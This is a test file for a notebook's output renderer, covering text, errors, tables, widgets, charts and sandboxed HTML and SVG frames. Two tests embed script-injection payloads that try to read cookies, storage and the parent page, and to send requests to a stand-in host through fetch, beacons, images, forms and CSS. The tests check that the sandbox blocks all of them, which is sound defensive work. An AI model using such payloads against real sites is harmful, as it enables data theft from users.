import { readFileSync } from "node:fs";
import AxeBuilder from "@axe-core/playwright";
import type { Browser, BrowserContext, Page } from "@playwright/test";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  applicationStyle,
  type KernelServer,
  launchBrowser,
  pageScript,
  serveKernel,
} from "#test/support/kernel-page.ts";

let browser: Browser;
let context: BrowserContext;
let server: KernelServer;
let page: Page;
const dialogs: string[] = [];
/** Requests to another host that got out. */
const elsewhere: string[] = [];

/** A page that shows outputs: `show([...])` replaces them, `update` changes one in place. */
const gallery = `
import { createRoot } from "react-dom/client";
import * as Y from "yjs";
import { CellOutputs } from "#components/notebook/output/index.ts";
import { OutputPlaceContext } from "#components/notebook/output/index.ts";
import { Signal } from "#components/live/notebook-signal.ts";
import { createOutput } from "#lib/notebook/cell.ts";
const doc = new Y.Doc();
const main = document.querySelector("main");
const root = createRoot(main);
let count = 0;
window.went = [];
const none = new Map();
const values = new Map();
const changed = new Signal(0);
window.set = [];
const place = {
  live: { get: () => none, subscribe: () => () => undefined },
  inputs: {
    changed,
    shares: true,
    of: (name) => values.get(name),
    set: (name, scope, value) => { window.set.push([name, scope, value]); values.set(name, value); changed.update((n) => n + 1); },
    keep: async () => "c".repeat(64),
  },
  // A kernel that holds a million rows, sorted only by \`row\`.
  rows: async ({ from, to, sort, find, filters, form }) => {
    const found = find === "" && filters.length === 0 ? 1000000 : 3;
    window.asked = filters;
    if (form === "csv") {
      const end = Math.min(found, from + 250000);
      const lines = Array.from({ length: end - from }, (_, at) => (from + at) + "\\r\\n").join("");
      return { rows: [], found, csv: { text: (from === 0 ? "row\\r\\n" : "") + lines, to: end } };
    }
    const at = (row) => (sort?.descending ? found - 1 - row : row);
    const rows = Array.from({ length: Math.max(0, Math.min(to, found) - from) }, (_, row) => ({ row: at(from + row), name: "kept " + at(from + row), share: null }));
    return { rows, found };
  },
};
window.show = (outputs) => {
  const list = doc.getArray("outputs" + count++);
  list.push(outputs.map(createOutput));
  window.list = list;
  root.render(<div style={{ width: "52rem", maxWidth: "100%", padding: 24, background: "var(--page)" }}>
    <h1 className="sr-only">Outputs</h1>
    <OutputPlaceContext value={place}>
      <CellOutputs key={count} outputs={list} notebookId="n1" cellId="a" onGoTo={(place) => window.went.push(place)} />
    </OutputPlaceContext>
  </div>);
};
`;

beforeAll(async () => {
  server = await serveKernel(await pageScript(gallery), await applicationStyle());
  browser = await launchBrowser();
  context = await browser.newContext({ viewport: { width: 960, height: 900 } });
  context.setDefaultTimeout(8_000);
  await context.route("http://elsewhere.test/**", (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ body: "got out" });
  });
  page = await context.newPage();
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(server.base);
});
afterAll(async () => {
  await browser.close();
  await server.stop();
});

const show = async (...outputs: readonly unknown[]): Promise<void> => {
  await page.evaluate((given) => (window as unknown as { show(outputs: unknown): void }).show(given), outputs);
};
const data = (bundle: Readonly<Record<string, unknown>>) => ({
  output_type: "display_data",
  data: bundle,
  metadata: {},
});
const stream = (text: string, name = "stdout") => ({ output_type: "stream", name, text });
const table = (rows: number) => ({
  schema: {
    fields: [
      { name: "row", type: "integer" },
      { name: "name", type: "string" },
      { name: "share", type: "number" },
    ],
  },
  data: Array.from({ length: rows }, (_, at) => ({ row: at, name: `n${(at * 7919) % rows}`, share: at / 7 })),
  octavo: { rows: rows * 3 },
});
const chart = `<svg xmlns="http://www.w3.org/2000/svg" class="plot" fill="currentColor" font-family="system-ui" font-size="10" text-anchor="middle" width="640" height="200" viewBox="0 0 640 200"><style>.plot{color:red}</style><g aria-label="line" stroke="steelblue" fill="none" stroke-width="1.5"><path d="M40,180L140,120L240,90L340,60L440,52L540,48"/></g><g fill="currentColor"><text x="20" y="184">0.0</text><text x="20" y="52">1.0</text></g></svg>`;

async function axe(): Promise<void> {
  const found = await new AxeBuilder({ page }).analyze();
  expect(found.violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(" ")}`)).toEqual([]);
}

describe("text", () => {
  it("shows terminal colours as spans and nothing of what else a terminal could do", async () => {
    await show(stream("plain \u001b[31mred \u001b[1mbold\u001b[0m\u001b]0;title\u0007 end\n<b>not markup</b>\n"));
    await page.waitForSelector(".out-text span");
    expect(await page.textContent(".out-text pre")).toBe("plain red bold end\n<b>not markup</b>");
    expect(await page.locator(".out-text b").count()).toBe(0);
  });

  it("folds what is long, and shows more on request", async () => {
    await show(stream(Array.from({ length: 1000 }, (_, at) => `line ${at}`).join("\n")));
    const lines = async () => ((await page.textContent(".out-text pre")) ?? "").split("\n").length;
    await page.waitForSelector(".out-more");
    expect(await lines()).toBe(200);
    await page.click("text=Show 600 more");
    expect(await lines()).toBe(800);
    await page.click("text=Show 200 more");
    expect(await lines()).toBe(1000);
    expect(await page.locator(".out-more").count()).toBe(0);
  });

  it("follows a stream that grows", async () => {
    await show(stream("a"));
    await page.waitForSelector(".out-text");
    await page.evaluate(() => {
      const list = (
        window as unknown as {
          list: { get(at: number): { get(key: string): { insert(at: number, text: string): void } } };
        }
      ).list;
      list.get(0).get("text").insert(1, "\nb");
    });
    await page.waitForFunction(() => document.querySelector(".out-text pre")?.textContent === "a\nb");
  });
});

describe("errors", () => {
  it("say what, where, and lead there", async () => {
    await show({
      output_type: "error",
      ename: "TypeError",
      evalue: "no such thing",
      traceback: ["at deep (cell:b:2:5)", "at cell:a:3:30"],
    });
    await page.click("text=Go to line 3");
    await page.click("text=Go to the other cell");
    await page.click("text=Stack, 2 frames");
    expect(await page.textContent(".out-error-head")).toBe("TypeErrorline 3, column 30");
    expect(await page.evaluate(() => (window as unknown as { went: unknown }).went)).toEqual([
      { cellId: "a", line: 3, column: 30 },
      { cellId: "b", line: 2, column: 5 },
    ]);
    await axe();
  });

  it("of a foreign kernel are text for a terminal", async () => {
    await show({
      output_type: "error",
      ename: "ZeroDivisionError",
      evalue: "division by zero",
      traceback: ["\u001b[0;31mZeroDivisionError\u001b[0m  Traceback", "----> 1 1/0"],
    });
    await page.waitForSelector(".out-trace");
    expect(await page.textContent(".out-trace")).toContain("----> 1 1/0");
    await axe();
  });
});

describe("HTML", () => {
  it("runs in a frame that grows with it and follows the theme", async () => {
    await show(
      data({
        "text/html":
          "<table><tr><th>a</th></tr><tr><td>1</td></tr></table><p id=x></p><script>x.textContent = 'ran ' + origin</script>",
      }),
    );
    const frame = page.frameLocator(".out-frame");
    await frame.locator("#x").getByText("ran null").waitFor();
    await page.waitForFunction(() => (document.querySelector(".out-frame")?.getBoundingClientRect().height ?? 0) > 60);
    await page.evaluate(() => {
      document.documentElement.dataset.theme = "dark";
    });
    await page.waitForFunction(() => true);
    await expect
      .poll(() => frame.locator("html").evaluate((root) => root.style.getPropertyValue("--scheme")))
      .toBe("dark");
    await page.evaluate(() => {
      delete document.documentElement.dataset.theme;
    });
    await axe();
  });

  it("reaches neither the page, nor storage, nor the network, nor the person", async () => {
    const before = server.requests.length;
    await show(
      data({
        "text/html": `<p id=log></p><img src="http://elsewhere.test/leak.png"><link rel=stylesheet href="http://elsewhere.test/leak.css"><iframe src="http://elsewhere.test/leak-frame"></iframe>
<form action="http://elsewhere.test/leak-form" method=post><button id=send>x</button></form><meta http-equiv=refresh content="0;url=http://elsewhere.test/leak-refresh">
<script>
const tries = {
  parent: () => parent.document.title, cookie: () => document.cookie, storage: () => localStorage.length, indexed: () => indexedDB.open("x"),
  top: () => { top.location = "http://elsewhere.test/leak-top" }, popup: () => { if (open("http://elsewhere.test/leak-popup") === null) throw 0; }, alert: () => { alert("hello"); throw 0; },
  frame: () => frameElement.id,
};
const held = Object.entries(tries).filter(([, attempt]) => { try { attempt(); return false } catch { return true } }).map(([name]) => name);
send.click();
fetch("http://elsewhere.test/leak-fetch").catch(() => 0);
new WebSocket("ws://127.0.0.1:1/leak").onerror = () => 0;
navigator.sendBeacon("http://elsewhere.test/leak-beacon", "x");
parent.postMessage({ type: "height", height: 1e12 }, "*"); parent.postMessage({ type: "height", height: "x" }, "*"); parent.postMessage("junk", "*");
setTimeout(() => { log.textContent = "held: " + held.join(" ") }, 300);
</script>`,
      }),
    );
    const text = page.frameLocator(".out-frame").locator("#log");
    await text.getByText("held:").waitFor();
    expect(await text.textContent()).toBe("held: parent cookie storage indexed top popup alert frame");
    expect(server.requests.slice(before).map(({ url }) => url)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(elsewhere).toEqual([]);
    expect(page.url()).toBe(`${server.base}/`);
    expect((await page.locator(".out-frame").boundingBox())?.height).toBeLessThanOrEqual(1200);
  });
});

describe("drawings", () => {
  const drawing = () => page.frameLocator(".out-frame");

  it("are shown in the page's own type and colour, their own styles staying with them", async () => {
    await show(data({ "image/svg+xml": chart }));
    await drawing().locator("svg[role=img]").waitFor();
    expect(await drawing().locator("path").getAttribute("d")).toContain("M40,180");
    const colors = await drawing()
      .locator("svg")
      .evaluate((svg) => [getComputedStyle(svg).color, getComputedStyle(document.body).color]);
    expect(colors[0]).toBe("rgb(255, 0, 0)");
    const ours = await page.evaluate(() => {
      const probe = document.body.appendChild(document.createElement("p"));
      probe.style.color = "var(--ink-2)";
      const { color } = getComputedStyle(probe);
      probe.remove();
      return color;
    });
    expect(colors[1]).toBe(ours);
    await page.waitForFunction(() => document.querySelector(".out-frame")?.getBoundingClientRect().height === 202);
    await axe();
  });

  it("carry nothing that acts or reaches out", async () => {
    const before = server.requests.length;
    await show(
      data({
        "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" style="position:fixed;inset:0"><script>alert(2)</script>
<style>@import "http://elsewhere.test/leak-style.css"; * { background: url(http://elsewhere.test/leak-url) }</style><image href="http://elsewhere.test/leak-image.png"/><use xlink:href="http://elsewhere.test/leak-use#x"/>
<a href="javascript:alert(3)"><rect width="10" height="10" fill="url(http://elsewhere.test/leak-fill)"/></a><foreignObject><iframe src="http://elsewhere.test/leak-foreign"></iframe></foreignObject>
<animate attributeName="href" to="javascript:alert(4)"/><rect id="ok" width="5" height="5" fill="url(#g)" onclick="alert(5)"/></svg>`,
      }),
    );
    await drawing().locator("#ok").waitFor({ state: "attached" });
    const markup = await drawing()
      .locator("svg")
      .evaluate((svg) => {
        for (const style of svg.querySelectorAll("style")) style.remove();
        return svg.outerHTML;
      });
    expect(markup).not.toMatch(/script|leak|onload|onclick|foreignObject|position/i);
    expect(markup).toContain("url(#g)");
    expect(server.requests.slice(before)).toEqual([]);
    expect(elsewhere).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it("run no script even where cleaning would miss one: the frame allows none but its own", async () => {
    await show(data({ "image/svg+xml": chart }));
    await drawing().locator("svg").waitFor();
    const ran = await drawing()
      .locator("body")
      .evaluate((body) => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        body.append(script);
        body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.ran = true">');
        return new Promise((resolve) => setTimeout(() => resolve("ran" in window), 100));
      });
    expect(ran).toBe(false);
  });

  it("that are no drawing say so", async () => {
    await show(data({ "image/svg+xml": "<p>hello" }));
    await page.getByText("This output cannot be shown: it is no drawing").waitFor();
  });
});

describe("tables", () => {
  it("sort, are found in, and hold only the rows in view", async () => {
    await show(data({ "application/vnd.dataresource+json": table(5000) }));
    await page.waitForSelector(".out-table");
    expect(await page.locator(".out-table tbody tr").count()).toBeLessThan(40);
    expect(await page.textContent(".out-table-foot .num")).toBe("First 5,000 of 15,000 rows, 3 columns");
    await page.click(".out-table th >> text=share");
    await page.click(".out-table th >> text=share");
    await page.getByRole("row", { name: `4,999 n${(4999 * 7919) % 5000} 714.1429` }).waitFor();
    await page.click("text=Find");
    await page.fill(".out-find", "n777");
    await page.waitForFunction(() =>
      document.querySelector(".out-table-foot .num")?.textContent?.startsWith("1 of 5,000 rows"),
    );
    await axe();
  });

  it("of a million rows are paged from the kernel that holds them", async () => {
    await show(
      data({ "application/vnd.dataresource+json": { ...table(50), octavo: { rows: 1_000_000, tableId: "t" } } }),
    );
    await page.getByText("1,000,000 rows, 3 columns").waitFor();
    await page.getByRole("cell", { name: "kept 0" }).waitFor();
    expect(await page.locator(".out-table tbody tr").count()).toBeLessThan(40);
    await page.locator(".out-table-scroll").evaluate((place) => {
      place.scrollTop = place.scrollHeight / 2;
    });
    await page
      .getByRole("cell", { name: /^kept 50\d\d\d\d|^kept 49\d\d\d\d/ })
      .first()
      .waitFor();
    await page.click(".out-table th >> text=row");
    await page.click(".out-table th >> text=row");
    await page.locator(".out-table-scroll").evaluate((place) => {
      place.scrollTop = 0;
    });
    await page.getByRole("cell", { name: "kept 999999" }).waitFor();
    await page.click("text=Find");
    await page.fill(".out-find", "kept");
    await page.getByText(/^3 of 1,000,000 rows/).waitFor();
    await axe();
  });

  it("are filtered by column, by keyboard, and leave as what is shown", async () => {
    await show(data({ "application/vnd.dataresource+json": { ...table(5000), octavo: { rows: 5000 } } }));
    await page.getByRole("button", { name: "Filter" }).focus();
    await page.keyboard.press("Enter");
    await page.getByRole("textbox", { name: "Filter row" }).waitFor();
    await page.keyboard.type("100..199");
    await page.getByText(/^100 of 5,000 rows/).waitFor();
    await page.keyboard.press("Tab");
    await page.keyboard.type("n1");
    await page.keyboard.press("Tab");
    await page.keyboard.type("> 20");
    await page.getByText(/^\d of 5,000 rows|^1\d of 5,000 rows/).waitFor();
    await axe();
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download", exact: true }).click(),
    ]);
    const lines = readFileSync(await file.path(), "utf8")
      .trimEnd()
      .split("\r\n");
    expect(lines[0]).toBe("row,name,share");
    expect(lines.slice(1).length).toBeGreaterThan(0);
    for (const line of lines.slice(1)) {
      const [row, name, share] = line.split(",");
      expect([Number(row) >= 100 && Number(row) <= 199, name?.includes("n1"), Number(share) > 20]).toEqual([
        true,
        true,
        true,
      ]);
    }
    await page.getByRole("button", { name: "Filter" }).click();
    await page.getByText(/^5,000 rows/).waitFor();
  });

  it("of a million rows are filtered and downloaded from the kernel, all of them", async () => {
    await show(
      data({ "application/vnd.dataresource+json": { ...table(50), octavo: { rows: 1_000_000, tableId: "t2" } } }),
    );
    await page.getByText("1,000,000 rows, 3 columns").waitFor();
    const [file] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download", exact: true }).click(),
    ]);
    const lines = readFileSync(await file.path(), "utf8")
      .trimEnd()
      .split("\r\n");
    expect([lines.length, lines[0], lines.at(-1)]).toEqual([1_000_001, "row", "999999"]);
    await page.getByRole("button", { name: "Filter" }).click();
    await page.getByRole("textbox", { name: "Filter share" }).fill("> 0.5");
    await page.getByText(/^3 of 1,000,000 rows/).waitFor();
    expect(await page.evaluate(() => (window as unknown as { asked: unknown }).asked)).toEqual([
      { column: "share", text: "> 0.5" },
    ]);
  });

  it("whose rows nobody holds say how much of them a download has", async () => {
    await show(data({ "application/vnd.dataresource+json": table(50) }));
    await page.getByRole("button", { name: "Download first 50" }).waitFor();
  });

  it("say what their columns hold: numbers, words, dates, true or false", async () => {
    const fields = Object.entries({ n: "number", on: "boolean", at: "datetime", s: "string" }).map(([name, type]) => ({
      name,
      type,
    }));
    const rows = [
      { n: 0.5, on: true, at: "2026-11-27T00:00:00.000Z", s: "a" },
      { n: null, on: false, at: "2026-11-27T10:22:05.000Z", s: null },
    ];
    await show(data({ "application/vnd.dataresource+json": { schema: { fields }, data: rows } }));
    await page.getByRole("cell", { name: "2026-11-27 10:22:05" }).waitFor();
    expect(await page.locator(".out-table td").allTextContents()).toEqual([
      "0.5",
      "true",
      "2026-11-27",
      "a",
      "none",
      "false",
      "2026-11-27 10:22:05",
      "none",
    ]);
    expect(
      await page.locator(".out-table th button").evaluateAll((all) => all.map((one) => one.getAttribute("title"))),
    ).toEqual(["n: numbers", "on: true or false", "at: dates", "s: text"]);
  });

  it("are scrolled by keyboard", async () => {
    await show(data({ "application/vnd.dataresource+json": table(5000) }));
    await page.getByRole("region", { name: "Table" }).focus();
    await page.keyboard.press("End");
    await page.getByRole("cell", { name: "4,999", exact: true }).waitFor();
    await page.keyboard.press("Home");
    await page.getByRole("cell", { name: "0", exact: true }).first().waitFor();
  });

  it("scroll to their last row", async () => {
    await show(data({ "application/vnd.dataresource+json": table(5000) }));
    await page.locator(".out-table-scroll").evaluate((place) => {
      place.scrollTop = place.scrollHeight;
    });
    await page.getByRole("cell", { name: "4,999", exact: true }).waitFor();
  });
});

const training = (over: object = {}) => ({
  ...{ trainingId: "t1", name: "digits", unit: "epoch", status: "running", total: 12, done: 6.5, fraction: 0.54 },
  ...{ batch: { at: 20, of: 40 }, leftMs: 41_000, workedMs: 57_000, stepMs: 13.2, perSecond: 9840, at: 0, note: null },
  checkpoint: { done: 6, at: 0 },
  lines: ["loss", "acc"].flatMap((metric) =>
    ["batch", "train", "valid"].map((kind) => ({
      metric,
      kind,
      x: Array.from({ length: kind === "batch" ? 120 : 6 }, (_, at) => (kind === "batch" ? at / 20 : at + 1)),
      y: Array.from({ length: kind === "batch" ? 120 : 6 }, (_, at) => {
        const x = kind === "batch" ? at / 20 : at + 1;
        const loss =
          2 * Math.exp(-x / 1.6) + (kind === "valid" ? 0.12 : 0.04) + (kind === "batch" ? Math.sin(at * 7) / 20 : 0);
        return metric === "loss" ? loss : 1 - loss / 2.4;
      }),
    })),
  ),
  ...over,
});

describe("inputs", () => {
  const place = { scope: "shared" };
  const inputs = [
    { kind: "slider", name: "Dropout", ...place, min: 0, max: 0.5, step: 0.05, initial: 0.25 },
    { kind: "number", name: "Units", ...place, min: 1, max: 100, step: 1, initial: 8 },
    { kind: "text", name: "Title", ...place, initial: "", lines: 1 },
    {
      kind: "select",
      name: "Optimizer",
      scope: "person",
      options: [
        { label: "Adam", value: "adam" },
        { label: "SGD", value: "sgd" },
      ],
      initial: "adam",
    },
    { kind: "checkbox", name: "Shuffle", ...place, initial: true },
    { kind: "date", name: "Since", ...place, initial: "", min: null, max: null },
    { kind: "file", name: "File", ...place, accept: "", initial: null },
    { kind: "button", name: "Again", scope: "run", initial: 0 },
    { kind: "draw", name: "Pad", ...place, size: 28, initial: null },
    { kind: "table", name: "Rows", ...place, table: table(3), rows: 3, multiple: true, initial: [] },
  ];
  const wasSet = () => page.evaluate(() => (window as unknown as { set: unknown[] }).set.splice(0));

  it("are used by keyboard, and set when one lets go", async () => {
    await show(...inputs.map((input) => data({ "application/vnd.octavo.input+json": input })));
    const slider = page.getByRole("slider", { name: "Dropout" });
    await slider.focus();
    await page.keyboard.press("ArrowRight");
    await page.keyboard.press("ArrowRight");
    expect(await page.textContent(".out-slider-value")).toBe("0.35");
    await page.getByLabel("Units").fill("500");
    await page.keyboard.press("Enter");
    await page.getByLabel("Title").fill("a title");
    await page.keyboard.press("Enter");
    await page.getByLabel("Optimizer").selectOption("SGD");
    await page.getByLabel("Shuffle").uncheck();
    await page.getByLabel("Since").fill("2026-11-27");
    await page.getByRole("button", { name: "Again" }).click();
    await page.getByLabel(/^Row 2/).check();
    await page.getByRole("img", { name: /^Pad: empty/ }).focus();
    await page.keyboard.press("Space");
    await page.keyboard.press("ArrowRight");
    await page.keyboard.press("Space");
    await page.getByRole("img", { name: /^Pad: something/ }).waitFor();
    const set = (await wasSet()) as [string, string, unknown][];
    expect(set.filter(([name]) => name !== "Pad" && name !== "Dropout")).toEqual([
      ["Units", "shared", 500],
      ["Title", "shared", "a title"],
      ["Optimizer", "person", "sgd"],
      ["Shuffle", "shared", false],
      ["Since", "shared", "2026-11-27"],
      ["Again", "run", 1],
      ["Rows", "shared", [1]],
    ]);
    expect(set.filter(([name]) => name === "Dropout").at(-1)).toEqual(["Dropout", "shared", 0.35]);
    // Whatever stands in the document, what is shown is allowed.
    expect(await page.getByLabel("Units").inputValue()).toBe("100");
    await axe();
  });

  it("say whose value they hold, and go back to the first", async () => {
    await show(data({ "application/vnd.octavo.input+json": inputs[0] }));
    await page.getByText("Shared: everyone sees this value").waitFor();
    await page.getByRole("button", { name: "Reset Dropout" }).click();
    await page.getByText("0.25").waitFor();
    expect(await wasSet()).toEqual([["Dropout", "shared", 0.25]]);
  });
});

describe("trainings and models", () => {
  it("show their metrics as lines with a name, or as a table", async () => {
    await show(data({ "application/vnd.octavo.training+json": training(), "text/plain": "digits" }));
    await page.waitForSelector(".line-chart canvas");
    expect(await page.locator(".line-chart").count()).toBe(2);
    expect(await page.locator(".line-chart").first().getAttribute("aria-label")).toMatch(
      /^Loss by epoch: train 0\.\d+, valid 0\.\d+$/,
    );
    // The drawing fills its box: nothing of it is pushed out or cut off.
    const [box, canvas] = await Promise.all(
      [".line-chart >> nth=0", ".line-chart canvas >> nth=0"].map((one) => page.locator(one).boundingBox()),
    );
    expect([canvas?.y, canvas?.height]).toEqual([box?.y, box?.height]);
    // Of somebody else's kernel: nothing here can act on it.
    expect(await page.getByRole("button", { name: "Pause" }).count()).toBe(0);
    expect(await page.textContent(".out-facts")).toContain("9,840 rows/s");
    await axe();
    await page.getByRole("button", { name: "Show as table" }).click();
    await page.getByRole("cell", { name: "6", exact: true }).waitFor();
    await axe();
  });

  it("a model is a table of its layers and a graph of who feeds whom", async () => {
    const layer = (name: string, type: string, from: string[], parameters = 100) => ({
      ...{ name, type, from, parameters, trainable: type !== "Embedding", output: [null, 8, 8, 16] },
    });
    const layers = [
      layer("in", "InputLayer", [], 0),
      layer("a", "Conv2D", ["in"]),
      layer("b", "Embedding", ["in"]),
      layer("sum", "Add", ["a", "b"], 0),
    ];
    await show(data({ "application/vnd.octavo.model+json": { name: "net", layers, parameters: 200, trainable: 100 } }));
    await page.getByRole("cell", { name: "batch × 8 × 8 × 16" }).first().waitFor();
    await page.getByText("200 parameters, 100 of them trained").waitFor();
    await page.getByRole("button", { name: "Show as graph" }).click();
    await page.waitForSelector(".out-graph svg");
    expect(await page.locator(".out-graph-edge").count()).toBe(4);
    await axe();
  });

  it("a Vega-Lite chart is drawn in a frame of its own, in the page's colours, and reaches no network", async () => {
    const spec = {
      data: { values: [1, 5, 3].map((value, at) => ({ name: "abc"[at], value })) },
      mark: "bar",
      encoding: { x: { field: "name", type: "nominal" }, y: { field: "value", type: "quantitative" } },
      width: 240,
      height: 120,
    };
    await show(data({ "application/vnd.vegalite.v5+json": spec, "text/plain": "[chart]" }));
    const frame = page.frameLocator(".out-frame");
    await frame.locator("svg").waitFor();
    expect(await frame.locator("svg .mark-rect path").count()).toBe(3);
    await page.waitForFunction(() => (document.querySelector(".out-frame")?.getBoundingClientRect().height ?? 0) > 120);
    const before = server.requests.length;
    await show(
      data({ "application/vnd.vegalite.v5+json": { ...spec, data: { url: "http://elsewhere.test/leak.csv" } } }),
    );
    await page.frameLocator(".out-frame").locator("svg").waitFor();
    await show(data({ "application/vnd.vegalite.v5+json": { mark: 5 } }));
    await page.getByText("This output cannot be shown:").waitFor();
    expect([elsewhere, server.requests.slice(before)]).toEqual([[], []]);
  });
});

describe("other forms", () => {
  it("LaTeX, Markdown, JSON, tensors and progress are shown as what they are", async () => {
    await show(
      data({ "text/latex": "$\\frac{1}{2}$" }),
      data({ "text/markdown": "**bold** <script>alert(6)</script>" }),
      data({ "application/json": { a: [1, { b: null }], c: "text" } }),
      data({
        "application/vnd.octavo.tensor+json": {
          dtype: "float32",
          shape: [2, 2],
          size: 4,
          statistics: { min: 0, max: 3, mean: 1.5, deviation: 1.118, notNumbers: 0 },
          head: [0, 1, 2, 3],
        },
      }),
      data({
        "application/vnd.octavo.progress+json": { label: "Epoch 3 of 12", fraction: 0.25 },
        "text/plain": "Epoch 3 of 12 25 %",
      }),
      data({ "application/x-unknown": 1 }),
      data({ "application/x-unknown": 1, "text/plain": "fallback" }),
    );
    await page.waitForSelector(".katex");
    await page.getByText("Epoch 3 of 12").waitFor();
    expect(await page.locator("strong").count()).toBe(1);
    expect(await page.getByRole("progressbar").getAttribute("aria-valuenow")).toBe("25");
    await page.getByText("No form of this output can be shown here: application/x-unknown").waitFor();
    await page.getByText("fallback").waitFor();
    expect(dialogs).toEqual([]);
    await axe();
  });

  it("a value of the wrong shape falls back to text and takes nothing with it", async () => {
    await show(
      data({ "application/vnd.dataresource+json": { schema: 5 } }),
      data({ "application/vnd.octavo.tensor+json": "x", "text/plain": "a tensor" }),
      data({ "image/png": "not base64" }),
      data({ "text/plain": "after" }),
    );
    await page.getByText("a tensor").waitFor();
    await page.getByText("after").waitFor();
    await page.getByText("This picture could not be loaded.").waitFor();
  });

  it("a large value is fetched, and can be asked for again when it fails", async () => {
    let fails = true;
    await page.route("**/blobs/**", (route) =>
      fails ? route.fulfill({ status: 503 }) : route.fulfill({ body: "from the blob", contentType: "text/plain" }),
    );
    const digest = "a".repeat(64);
    await show(
      data({ "application/vnd.octavo.blob+json": { "text/plain": { digest, size: 5 } }, "text/plain": "start…" }),
    );
    await page.getByText("the server answers 503").waitFor();
    fails = false;
    await page.click("text=Try again");
    await page.getByText("from the blob").waitFor();
    await page.unroute("**/blobs/**");
  });
});
